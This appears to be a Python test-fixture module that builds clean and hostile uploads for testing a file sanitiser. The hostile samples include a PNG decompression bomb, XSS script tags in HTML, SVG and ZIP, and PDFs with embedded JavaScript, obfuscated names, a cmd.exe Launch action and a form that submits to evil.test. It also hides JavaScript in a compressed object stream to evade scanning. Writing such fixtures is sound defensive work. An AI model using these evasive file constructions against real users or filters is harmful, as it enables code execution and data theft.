"""Real files, built byte by byte, for the evidence tests: good ones and attacks."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import NameObject, TextStringObject
from werkzeug.datastructures import FileStorage


def upload(data: bytes, filename: str, content_type: str = "application/pdf") -> FileStorage:
    """What the browser sends; the stated type is ignored by the code under test."""
    return FileStorage(stream=io.BytesIO(data), filename=filename, content_type=content_type)


# --- images ---------------------------------------------------------------------------
def jpeg_photo(size: tuple[int, int] = (64, 48), *, gps: bool = True) -> bytes:
    """A JPEG with EXIF (camera, GPS position, orientation 6: rotated) and a comment."""
    image = Image.new("RGB", size, (200, 30, 30))
    for x in range(size[0] // 2):
        for y in range(size[1]):
            image.putpixel((x, y), (20, 160, 40))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    if gps:
        exif[0x8825] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 3.0)}
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif, comment=b"secret comment")
    return out.getvalue()


def png_image(size: tuple[int, int] = (40, 30)) -> bytes:
    """A PNG with a text chunk (metadata that must not survive)."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "someone@example.com")
    out = io.BytesIO()
    Image.new("RGBA", size, (10, 20, 30, 255)).save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A small PNG whose header claims 900 million pixels (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grey
    row = b"\x00" + b"\x00" * width
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(50)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def gif_image() -> bytes:
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, format="GIF")
    return out.getvalue()


# --- archives and web pages -----------------------------------------------------------
def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(document.cookie)</script>")
    return out.getvalue()


HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_IMAGE = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)


# --- PDFs -----------------------------------------------------------------------------
def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def clean_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_metadata({"/Title": "Delivery note"})
    return _written(writer)


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript: the catalog's /Names tree names a JavaScript action."""
    from pypdf.generic import ArrayObject

    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    action = writer._add_object(
        _dictionary({"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")})
    )
    names = _dictionary({"/Names": ArrayObject([TextStringObject("hello"), action])})
    writer._root_object[NameObject("/Names")] = _dictionary({"/JavaScript": names})
    return _written(writer)


def pdf_with_open_action_uri() -> bytes:
    """/OpenAction alone (an action run when the document opens) is refused."""
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        _dictionary({"/S": NameObject("/URI"), "/URI": TextStringObject("https://evil.test")})
    )
    return _written(writer)


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    return _written(writer)


def _dictionary(values: dict[str, object]):  # type: ignore[no-untyped-def]
    from pypdf.generic import DictionaryObject

    result = DictionaryObject()
    for key, value in values.items():
        result[NameObject(key)] = value
    return result


def hand_written_pdf(*extra_objects: bytes, catalog_extra: bytes = b"") -> bytes:
    """A minimal PDF built by hand, with a correct cross-reference table.

    Object 1 is the catalog (plus `catalog_extra`), 2 the pages, 3 the page; then
    `extra_objects` as objects 4, 5, …"""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


def pdf_with_hex_escaped_javascript() -> bytes:
    """`/J#61vaScript` is /JavaScript once the name's #xx escape is decoded (§7.3.5)."""
    return hand_written_pdf(
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
        catalog_extra=b"/OpenAct#69on 4 0 R",
    )


def pdf_with_launch_action() -> bytes:
    return hand_written_pdf(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (cmd.exe) >> >>",
    )


def pdf_with_xfa_form() -> bytes:
    return hand_written_pdf(
        b"<< /Fields [] /XFA 5 0 R >>",
        b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream",
        catalog_extra=b"/AcroForm 4 0 R",
    )


def pdf_with_submit_form() -> bytes:
    return hand_written_pdf(
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] "
        b"/A << /S /SubmitForm /F (https://evil.test/collect) >> >>",
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """The JavaScript action sits compressed inside an object stream (PDF 1.5), listed
    by a cross-reference stream: no byte of the file spells /JavaScript."""
    header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 4 0 R >>] >>",
    }
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    offsets_table = b"4 0 "
    stream_data = zlib.compress(offsets_table + hidden)
    out = bytearray(header)
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[5] = len(out)
    out += (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(offsets_table), len(stream_data))
        + stream_data
        + b"\nendstream\nendobj\n"
    )
    xref_offset = len(out)
    rows = [b"\x00\x00\x00\x00\xff\xff"]  # object 0: free
    for number in (1, 2, 3):
        rows.append(b"\x01" + struct.pack(">I", offsets[number]) + b"\x00")
    rows.append(b"\x02" + struct.pack(">I", 5) + b"\x00")  # object 4: in stream 5, index 0
    rows.append(b"\x01" + struct.pack(">I", offsets[5]) + b"\x00")
    rows.append(b"\x01" + struct.pack(">I", xref_offset) + b"\x00")  # object 6: this stream
    table = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)
